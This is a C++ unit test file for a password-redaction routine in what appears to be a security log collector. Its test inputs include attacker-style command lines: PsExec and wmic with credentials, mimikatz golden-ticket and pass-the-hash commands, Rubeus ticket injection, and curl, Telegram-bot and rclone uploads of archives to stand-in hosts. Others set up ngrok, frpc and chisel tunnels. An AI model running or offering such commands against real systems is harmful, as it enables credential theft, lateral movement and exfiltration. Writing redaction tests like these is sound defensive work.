#include "collector/module/passwords.h"

#include <gtest/gtest.h>

#include <chrono>
#include <string>
#include <utility>
#include <vector>

namespace hozen {
namespace {

constexpr std::string_view kSecret = "S3cr#t";

/// `line` with @ for the password, and what remains of it.
void expect_left_out(std::string line) {
  std::string shown = line;
  for (std::string* text : {&line, &shown}) {
    const std::string_view put = text == &line ? kSecret : kPasswordLeftOut;
    for (std::size_t at = text->find('@'); at != std::string::npos;
         at = text->find('@', at + put.size()))
      text->replace(at, 1, put);
  }
  EXPECT_EQ(without_passwords(line), shown);
}

TEST(Passwords, OfPsExecAndItsLike) {
  expect_left_out("psexec \\\\SRV1 -u CORP\\adm -p @ -s cmd.exe");
  expect_left_out("\"C:\\my tools\\PsExec64.exe\" /accepteula \\\\SRV1 /u adm /P @ cmd /c dir");
  expect_left_out("psexec \\\\SRV1 -u adm -p@ cmd");
  expect_left_out("paexec \\\\SRV1 -p @");
  // Under another name it is told by its form.
  expect_left_out("p.exe \\\\SRV1 -u CORP\\adm -p@ cmd.exe");
  expect_left_out("x.exe -p @ -u adm");
  expect_left_out("process: C:\\T\\PsExec.exe (psexec \\\\S -u a -p @ cmd) ran at 2024-01-02");
  EXPECT_EQ(without_passwords("psexec \\\\S -u a -p \"two w\\\"ords\" cmd"),
            "psexec \\\\S -u a -p [password left out] cmd");
}

TEST(Passwords, OfTheToolsOfWindows) {
  expect_left_out("net use \\\\srv\\c$ @ /user:CORP\\adm");
  expect_left_out("net use x: \\\\srv\\c$ /user:CORP\\adm @");
  expect_left_out("C:\\Windows\\system32\\net1.exe  user bob @ /add");
  expect_left_out("cmd.exe /c \"net use \\\\srv\\c$ @ /user:adm\" & dir");
  expect_left_out("wmic /node:srv /user:adm /password:@ process call create x");
  expect_left_out("winrs -r:srv -u:adm -p:@ cmd");
  expect_left_out("schtasks /create /s srv /u adm /p @ /ru a /rp @ /tn x");
  expect_left_out("cmdkey /add:srv /user:adm /pass:@");
  expect_left_out("sc.exe config x obj= .\\adm password= @");
  expect_left_out("netdom join x /domain:d /ud:a /pd:* /passwordd:@");
  expect_left_out("reg add HKLM\\x /v DefaultPassword /t REG_SZ /d @ /f");
  expect_left_out("powershell ConvertTo-SecureString -String @ -AsPlainText -Force");
  expect_left_out("It ran: net use \\\\srv\\c$ @ /user:adm at 2024-01-02T00:00:00Z.");
}

TEST(Passwords, OfToolsThatAreBroughtAlong) {
  expect_left_out("plink.exe -ssh -l adm host -pw @ -R 1:2");
  expect_left_out("rar a -r -hp@ out.rar C:\\x");
  expect_left_out("rar.exe a -p@ out.rar C:\\x");
  expect_left_out("7z.exe a -p@ out.7z");
  expect_left_out("sqlcmd -S srv -U sa -P @ -Q \"select 1\"");
  expect_left_out("sqlcmd -S srv -U sa -P@ -p 1");
  expect_left_out("curl -u adm:@ http://x/y");
  expect_left_out("curl --user adm:@ http://x/y");
  expect_left_out("mimikatz sekurlsa::pth /user:adm /ntlm:@ /run:cmd");
  expect_left_out("x.exe \"Server=a;Uid=b;Pwd=@;Database=c\"");
  EXPECT_EQ(without_passwords("git clone https://adm:pw1@host/x"),
            "git clone https://adm:[password left out]@host/x");
  EXPECT_EQ(without_passwords("wmiexec.py CORP/adm:pw1@10.0.0.5 cmd"),
            "wmiexec.py CORP/adm:[password left out]@10.0.0.5 cmd");
}

/// `line` with ~ for the secret, and what remains of it.
void expect_form_left_out(const std::string& line, const std::string& secret) {
  std::string text = line, shown = line;
  for (std::string* one : {&text, &shown}) {
    const std::string put = one == &text ? secret : std::string{kPasswordLeftOut};
    for (std::size_t at = one->find('~'); at != std::string::npos;
         at = one->find('~', at + put.size()))
      one->replace(at, 1, put);
  }
  EXPECT_EQ(without_passwords(text), shown);
  EXPECT_EQ(without_passwords(shown), shown);
}

TEST(Passwords, OfToolsForKerberos) {
  const std::string hash = "8846f7eaee8fb117ad06bdd830b7586c";
  expect_form_left_out("m.exe \"kerberos::golden /user:a /sid:S-1-5-21-1 /krbtgt:~ /ptt\" exit",
                       hash);
  expect_form_left_out("m.exe \"lsadump::changentlm /user:a /old:~ /newpassword:~\" exit", hash);
  expect_form_left_out(
      "m.exe \"lsadump::changentlm /user:a /oldpassword:~ /newpassword:~ /server:d\"", "Secret123");
  expect_form_left_out("Rubeus.exe ptt /ticket:~", "doIFuDCCBbSgAwIBBaEDAgEWooIEwDCCBLxhggS4");
  expect_form_left_out("Rubeus.exe changepw /ticket:ticket.kirbi /new:~", "Secret123");
  expect_form_left_out("Rubeus.exe asktgt /user:a /certificate:~ /ptt", "MIIJ");
  expect_form_left_out("m.exe \"dpapi::cred /in:x /masterkey:~\"", hash + hash);
}

TEST(Passwords, OfWhatSendsFilesAway) {
  for (const char* line :
       {"curl -su adm:~ -T C:\\a.rar http://h", "curl.exe -sku adm:~ -T a http://h",
        "curl -T a -b \"sid=~\" http://h", "curl --cookie sid=~ http://h",
        "curl -F token=~ -F f=@C:\\a.rar http://h", "curl -d \"user=a&password=~\" http://h",
        "curl -F d=@a https://api.telegram.org/bot123456:~/sendDocument",
        "winscp.com /command \"open r@h -privatekey=k.ppk -passphrase=~\" \"put a\"",
        "(New-Object Net.NetworkCredential('u','~')).x",
        "$c=New-Object System.Net.NetworkCredential(\"u\", \"~\"); $d",
        "mega-login a@b ~; mega-put a", "rclone config create m mega user a@b pass ~; x",
        "(echo open h& echo user adm ~& echo put a& echo bye)>f.txt & ftp -n -s:f.txt",
        "echo adm>>f&echo ~>>f&echo put a>>f&echo bye>>f&ftp -s:f h"})
    expect_form_left_out(line, "Secret123");
}

TEST(Passwords, ThatPackersAreHandedFromOutside) {
  for (const char* line : {"cmd /c \"echo ~|C:\\T\\rar.exe a -hp C:\\T\\1.rar C:\\HR\"",
                           "C:\\T\\rar.exe a -\"hp~\" C:\\T\\1.rar C:\\HR"})
    expect_form_left_out(line, "Secret123");
  const std::string out{kPasswordLeftOut};
  EXPECT_EQ(without_passwords("set P=Secret123& rar a -hp%P% a.rar b"),
            "set P=" + out + "& rar a -hp" + out + " a.rar b");
  EXPECT_EQ(without_passwords("7z a a.7z b -p$env:PW -mhe; $env:PW=\"Secret123\""),
            "7z a a.7z b -p" + out + " -mhe; $env:PW=\"" + out + "\"");
}

TEST(Passwords, OfVariablesWhoseUseWasLeftOutBefore) {
  const std::string out{kPasswordLeftOut};
  EXPECT_EQ(without_passwords("set P=Secret123& rar a -hp" + out + " a.rar b"),
            "set P=" + out + "& rar a -hp" + out + " a.rar b");
  EXPECT_EQ(without_passwords("7z a a.7z b -p" + out + "; $env:PW=\"Secret123\""),
            "7z a a.7z b -p" + out + "; $env:PW=\"" + out + "\"");
  EXPECT_EQ(without_passwords("set D=C:\\x& rar a -hp" + out + " a.rar %D%"),
            "set D=C:\\x& rar a -hp" + out + " a.rar %D%");
}

TEST(Passwords, FormsThatHoldNone) {
  for (const char* text : {"app.exe /new:1.2 /old:1.1",
                           "app.exe /ticket:4711",
                           "Rubeus.exe ptt /ticket:a.kirbi",
                           "signtool /certificate:My.cer",
                           "curl -sSfL -o u http://h:80/a",
                           "curl -b cookies.txt http://h",
                           "curl -F f=@C:\\a.rar http://h",
                           "curl -d name=a&id=1 http://h",
                           "curl -xu http://h/bot/a:b",
                           "http://h/bot123/a:b",
                           "echo y|plink -ssh h",
                           "echo y | del *.tmp",
                           "echo hello|more",
                           "echo a.txt>>list.txt&echo b.txt>>list.txt&copy x y",
                           "set P=C:\\x& rar a a.rar %P%",
                           "$env:PATH=\"C:\\x\"; 7z a a.7z b",
                           "rclone copy a m:",
                           "rclone config show",
                           "mega-login a@b",
                           "New-Object Net.NetworkCredential($u,$p)",
                           "findstr -\"x\" a",
                           "echo open door >> diary.txt"})
    EXPECT_EQ(without_passwords(text), text);
}

TEST(Passwords, LeavesOtherTextAlone) {
  for (const char* text :
       {"",
        "\"",
        "\\",
        "psexec \\\\srv -u adm -p",
        "mkdir -p C:\\x",
        "nmap -p 445 10.0.0.1",
        "net use \\\\srv\\c$ * /user:adm",
        "net use \\\\srv\\c$",
        "net user bob /delete",
        "It ran: net user bob at 2024-01-02T00:00:00.0000000Z.",
        "process: C:\\net.exe (net user bob) ran at 2024-01-02.",
        "net view \\\\srv /all",
        "unrar x -p- a.rar",
        "curl -u adm https://h:8080/a@b",
        "tasklist /s srv /u adm /path x",
        "powershell -Path x -Port 3 -u y",
        "C:\\a\\b.exe /p",
        "The password of an account was tried many times: 3 logons at 10:00 (a@b).",
        "curl --ntlm --proxy x http://h/",
        "ConvertTo-SecureString $x -Key $k"})
    EXPECT_EQ(without_passwords(text), text);
}

TEST(Passwords, WhatWasLeftOutStaysAsItIs) {
  for (const char* line : {"svch.exe a -r -hpx1 -v1m C:\\a.rar C:\\b",
                           "net use Z: \\\\s\\c /user:a x1", "psexec \\\\s -u a -p x1 cmd"}) {
    const std::string once = without_passwords(line);
    EXPECT_EQ(once.find("x1"), std::string::npos) << once;
    EXPECT_EQ(without_passwords(once), once);
  }
}

TEST(Passwords, InFormsThatWereShownBefore) {
  for (const char* line :
       {"ConvertTo-SecureString -AsPlainText @", "ConvertTo-SecureString -AsPlainText -Force @",
        "$s = (ConvertTo-SecureString @ -AsPlainText -Force)",
        "New-Object PSCredential('a',(ConvertTo-SecureString @ -AsPlainText -Force))",
        "ConvertTo-SecureString -Key $k -String:@", "cme smb 10.0.0.5 -u adm -H @",
        "nxc.exe smb 10.0.0.5 -u adm -H @ -x whoami", "wmiexec.py -hashes @ adm 10.0.0.5",
        "psexec \\\\S -u a -p @ cmd /c \"net use \\\\T\\c$ @\"",
        "x.exe -u a & mkdir -p b & y.exe -p @"})
    expect_left_out(line);
  const std::pair<std::string, std::string> kLines[] = {
      {"(ConvertTo-SecureString \"Secret123\" -Force)", "(ConvertTo-SecureString ~ -Force)"},
      {"\"Secret123\" | ConvertTo-SecureString -AsPlainText",
       "~ | ConvertTo-SecureString -AsPlainText"},
      {"wmiexec administrator:Secret123@10.0.0.5 cmd", "wmiexec administrator:~@10.0.0.5 cmd"},
      {"psexec.py adm:Se@cret@srv", "psexec.py adm:~@srv"},
      {"psexec \\\\S -u a -p 'Se cret123' cmd", "psexec \\\\S -u a -p ~ cmd"},
      {"$pass = \"Secret123\"; x", "$pass = ~ x"},
      {"$pass = 'Se cret' ; x", "$pass = ~ ; x"},
      {"$userPass ='x' ; y", "$userPass =~ ; y"},
      {"$password='x'", "$password=~"}};
  for (auto [line, shown] : kLines) {
    shown.replace(shown.find('~'), 1, kPasswordLeftOut);
    EXPECT_EQ(without_passwords(line), shown);
  }
}

TEST(Passwords, LeavesCommandsWhole) {
  for (const char* text : {"psexec \\\\SRV1 -s whoami /priv",
                           "psexec \\\\SRV1 -u a klist /purge",
                           "psexec \\\\SRV1 -u a powershell -PSConsoleFile x",
                           "psexec \\\\SRV1 -u a x.exe -path y",
                           "psexec -i 1 \\\\SRV1 -u a -s x.exe -p 80",
                           "paexec \\\\SRV1 -s x.exe -p 80",
                           "p.exe \\\\SRV1 -u a cmd /c whoami /priv",
                           "python -u srv.py -p 8080",
                           "docker run -u 0 -p 8080:80 x",
                           "docker run -p 8080:80",
                           "ssh -p 22 a@h",
                           "mkdir -p x",
                           "psql -U adm -p 5432",
                           "nmap -p 80,443 h",
                           "$pass = Read-Host -AsSecureString",
                           "$pass = $other",
                           "runas /user:adm@corp.local cmd",
                           "mailto:a@10.0.0.5",
                           "C:\\a@10.0.0.5",
                           "smbmap -H 10.0.0.5",
                           "ConvertTo-SecureString $x -AsPlainText"})
    EXPECT_EQ(without_passwords(text), text);
}

TEST(Passwords, OfSingleTools) {
  for (const char* line : {"AdFind.exe -h dc1 -u CORP\\adm -up @ -f objectcategory=computer",
                           "a.exe -u CORP\\adm -up @ -f x",
                           "fscan -h 10.0.0.0/24 -user adm -pwda @ -nopoc",
                           "curl -H \"Authorization: Bearer @\" https://h/x",
                           "curl -H 'authorization: Basic @' https://h/x",
                           "curl -H \"X-Api-Key: @\" https://h/x",
                           "curl -H X-Api-Key:@ https://h/x",
                           "curl \"https://h/x?token=@&b=1\"",
                           "curl https://h/x?a=b&api_key=@ -o y",
                           "rclone copy C:\\x r: --sftp-host h --sftp-pass @ --transfers 4",
                           "rclone copy C:\\x r: --sftp-pass=@",
                           "rclone copy C:\\x :sftp,host=h,user=u,pass=@:dir",
                           "rclone copy C:\\x \":sftp,host=h,pass=@,user=u:dir\"",
                           "ngrok authtoken @",
                           "ngrok.exe config add-authtoken @",
                           "ngrok tcp 3389 --authtoken @",
                           "ngrok tcp 3389 --authtoken=@",
                           "frpc.exe tcp -s 203.0.113.7:7000 -t @ -l 3389",
                           "svc.exe tcp -s 203.0.113.7:7000 -t @ -l 3389",
                           "chisel client --auth u:@ https://h R:socks",
                           "chisel server --auth=u:@",
                           "cmd /c \"AdFind -u a -up @\"",
                           "wce.exe -s adm:CORP:@",
                           "cmd /c echo @ | C:\\ProgramData\\anydesk.exe --set-password",
                           "It ran: ngrok authtoken @"}) {
    std::string text = line;
    expect_left_out(text);
    const std::size_t at = text.find('@');
    text.replace(at, 1, kSecret);
    const std::string once = without_passwords(text);
    EXPECT_EQ(without_passwords(once), once);
  }
  for (const char* line : {"$p=\"k1\"; rar.exe a \"-p$p\" x.rar", "$p = 'k1'; 7z a -p$p x.7z",
                           "$k='k1'; x.exe -pw $k", "cmd /c \"$p = 'k1'; r a -hp$p x.rar\""}) {
    const std::string shown = without_passwords(line);
    EXPECT_EQ(shown.find("k1"), std::string::npos) << shown;
    EXPECT_EQ(without_passwords(shown), shown);
  }
  const std::string hash(32, 'a'), left{kPasswordLeftOut};
  // Another masked the command before.
  EXPECT_EQ(without_passwords("$d=\"C:\\x\"; $p=\"k1\"; 7z a -p" + left + " a.7z $d"),
            "$d=\"C:\\x\"; $p=\"" + left + "\"; 7z a -p" + left + " a.7z $d");
  EXPECT_EQ(without_passwords("wce.exe -s adm:CORP:" + hash + ":" + hash),
            "wce.exe -s adm:CORP:" + left);
  EXPECT_EQ(without_passwords("iwr h -Headers @{\"X-Key\"=\"k1\"; Authorization=\"Basic k2\"}"),
            "iwr h -Headers @{\"X-Key\"=\"" + left + "\"; Authorization=\"Basic " + left + "\"}");
}

TEST(Passwords, OfSingleToolsLeavesOtherTextAlone) {
  const std::string hash(32, 'a');
  for (const std::string& text : std::vector<std::string>{
           "AdFind.exe -f objectcategory=computer -csv name", "docker compose -f x up",
           "docker-compose -up x", "fscan -h 10.0.0.0/24",
           "curl -H \"Accept: text/html\" https://h/x?page=2&id=7", "curl https://h/key/token/x",
           "rclone copy C:\\x r: --transfers 4 --ask-password x", "ngrok tcp 3389",
           "chisel client https://h R:socks", "x.exe -t 5", "ping -t h", "$p=\"C:\\x\"; dir $p",
           "MD5=" + hash + ",SHA1=" + hash, "HKLM\\SOFTWARE\\X-Key: value"})
    EXPECT_EQ(without_passwords(text), text);
  EXPECT_FALSE(without_passwords(std::string(200'000, ':')).empty());
  EXPECT_FALSE(without_passwords(std::string(200'000, '$')).empty());
}

TEST(Passwords, OfLongTextsInTime) {
  std::string text = "psexec ";
  while (text.size() < 200'000) text += "\"a -p \\\" b=";
  const auto begin = std::chrono::steady_clock::now();
  EXPECT_FALSE(without_passwords(text).empty());
  EXPECT_FALSE(without_passwords(std::string(200'000, '=')).empty());
  EXPECT_FALSE(without_passwords(std::string(200'000, '"')).empty());
  EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds{20});
}

}  // namespace
}  // namespace hozen
